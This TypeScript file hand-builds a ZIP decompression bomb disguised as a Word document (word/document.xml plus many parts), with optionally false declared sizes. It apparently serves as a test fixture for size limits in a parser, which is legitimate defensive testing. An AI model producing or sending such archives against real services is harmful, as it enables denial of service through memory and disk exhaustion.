// An archive written by hand, because no library writes one that lies.
import { constants, crc32, deflateRawSync } from 'node:zlib'

type BombOptions = {
  /** What all entries unpack to. */
  readonly megabytes: number
  /** What each entry says its size is; the truth unless given. */
  readonly declaredBytes?: number
  /** What one entry unpacks to. */
  readonly partMegabytes?: number
}

const blockMegabytes = 10
/** A last block without content. */
const endOfStream = Buffer.from([3, 0])

/** Packs blanks, and checks them: the same block again and again, which no memory has to hold. */
function packBlanks(megabytes: number) {
  const blanks = Buffer.alloc(blockMegabytes * 1024 * 1024, ' ')
  const block = deflateRawSync(blanks, { finishFlush: constants.Z_FULL_FLUSH })
  const blocks = Array.from({ length: megabytes / blockMegabytes }, () => block)
  return { packed: Buffer.concat([...blocks, endOfStream]), check: blocks.reduce((sum) => crc32(blanks, sum), 0) }
}

/** A document that unpacks to a thousand times its size; only what is in one of its entries may be read of it. */
export function createZipBomb({ megabytes, declaredBytes, partMegabytes = 10 }: BombOptions): Buffer {
  const { packed, check } = packBlanks(partMegabytes)
  const files: Buffer[] = []
  const directory: Buffer[] = []
  let offset = 0
  for (let index = 0; index < megabytes / partMegabytes; index++) {
    const name = Buffer.from(index === 0 ? 'word/document.xml' : `word/part${index}.xml`)
    const facts = Buffer.alloc(26)
    facts.writeUInt16LE(20, 0)
    facts.writeUInt16LE(8, 4)
    facts.writeUInt32LE(check, 10)
    facts.writeUInt32LE(packed.length, 14)
    facts.writeUInt32LE(declaredBytes ?? partMegabytes * 1024 * 1024, 18)
    facts.writeUInt16LE(name.length, 22)
    const file = Buffer.concat([Buffer.from('PK\u0003\u0004'), facts, name, packed])
    const locator = Buffer.alloc(14)
    locator.writeUInt32LE(offset, 10)
    directory.push(Buffer.concat([Buffer.from('PK\u0001\u0002\u0014\0'), facts, locator, name]))
    files.push(file)
    offset += file.length
  }
  const list = Buffer.concat(directory)
  const end = Buffer.alloc(18)
  end.writeUInt16LE(files.length, 4)
  end.writeUInt16LE(files.length, 6)
  end.writeUInt32LE(list.length, 8)
  end.writeUInt32LE(offset, 12)
  return Buffer.concat([...files, list, Buffer.from('PK\u0005\u0006'), end])
}
